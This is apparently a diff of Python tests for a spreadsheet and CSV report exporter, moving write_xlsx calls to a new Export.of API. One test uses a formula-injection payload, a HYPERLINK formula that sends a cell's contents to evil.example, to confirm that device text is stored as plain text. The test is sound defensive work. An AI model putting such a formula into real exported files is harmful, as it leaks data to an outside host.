@@ -15,6 +15,7 @@ from hypothesis import strategies as st
 
 from reports.render.export import (
     XLSX_MAX_ROWS,
+    Export,
     ExportError,
     Table,
     check_fits_xlsx,
@@ -153,7 +154,7 @@ def test_csv_keeps_any_text_and_every_number(serial: str, value: float) -> None:
 
 def test_workbook_has_a_summary_and_a_sheet_per_table(tmp_path: Path) -> None:
     runs = retested_batch()
-    path = write_xlsx(tmp_path / "b.xlsx", export_tables(runs), runs, title="esp32_sensor — batch B")
+    path = write_xlsx(tmp_path / "b.xlsx", Export.of(runs), title="esp32_sensor — batch B")
     book = openpyxl.load_workbook(path)
     assert book.sheetnames == ["Summary", "Runs", "Phases", "Measurements", "Statistics"]
     summary = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True) if row and row[0]}
@@ -185,7 +186,7 @@ def test_statistics_sheet_and_csv_hold_the_batch_pages_numbers(tmp_path: Path) -
     from reports.quality.statistics import measurement_statistics
 
     runs = [rf.sensor_run(f"SN-{i}", vdd=3.30 + 0.03 * ((i * 7) % 5 - 2), started_at=rf.at(60 * i)) for i in range(12)]
-    path = write_xlsx(tmp_path / "s.xlsx", export_tables(runs), runs, title="B")
+    path = write_xlsx(tmp_path / "s.xlsx", Export.of(runs), title="B")
     sheet = openpyxl.load_workbook(path)["Statistics"]
     header = [c.value for c in sheet[1]]
     rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
@@ -207,7 +208,7 @@ def test_a_period_of_two_products_has_a_yield_per_product_never_one_across_them(
         rf.run(serial="SN-1", started_at=rf.at(20), product="final_test", product_version="2.0",
                limits_sha256="ab" * 32, outcome=Outcome.PASS),
     ]
-    path = write_xlsx(tmp_path / "p.xlsx", export_tables(runs), runs, title="period")
+    path = write_xlsx(tmp_path / "p.xlsx", Export.of(runs), title="period")
     summary = {row[0]: row[1] for row in openpyxl.load_workbook(path)["Summary"].iter_rows(values_only=True)
                if row and row[0]}
     assert "first-pass yield" not in summary  # no blended yield
@@ -242,7 +243,7 @@ def test_workbook_stores_device_text_as_text_never_as_formula(tmp_path: Path) ->
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     pem = "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----\n"
     runs = [rf.run(serial=evil, dut={"serial": evil, "model": "bad\x00\x1bname\ufffe", "public_key": pem})]
-    path = write_xlsx(tmp_path / "b.xlsx", export_tables(runs), runs, title=evil)
+    path = write_xlsx(tmp_path / "b.xlsx", Export.of(runs), title=evil)
     sheet = openpyxl.load_workbook(path)["Runs"]
     header = [c.value for c in sheet[1]]
     serial = sheet[2][header.index("serial")]
@@ -257,7 +258,7 @@ def test_workbook_stores_device_text_as_text_never_as_formula(tmp_path: Path) ->
 def test_any_records_export_to_a_workbook_that_opens(tmp_path_factory: pytest.TempPathFactory,
                                                      runs: list[RunRecord]) -> None:
     tables = export_tables(runs)
-    path = write_xlsx(tmp_path_factory.mktemp("x") / "any.xlsx", tables, runs, title="any")
+    path = write_xlsx(tmp_path_factory.mktemp("x") / "any.xlsx", Export.of(runs), title="any")
     book = openpyxl.load_workbook(path)
     for name, table in tables.items():
         sheet = book[name.capitalize()]
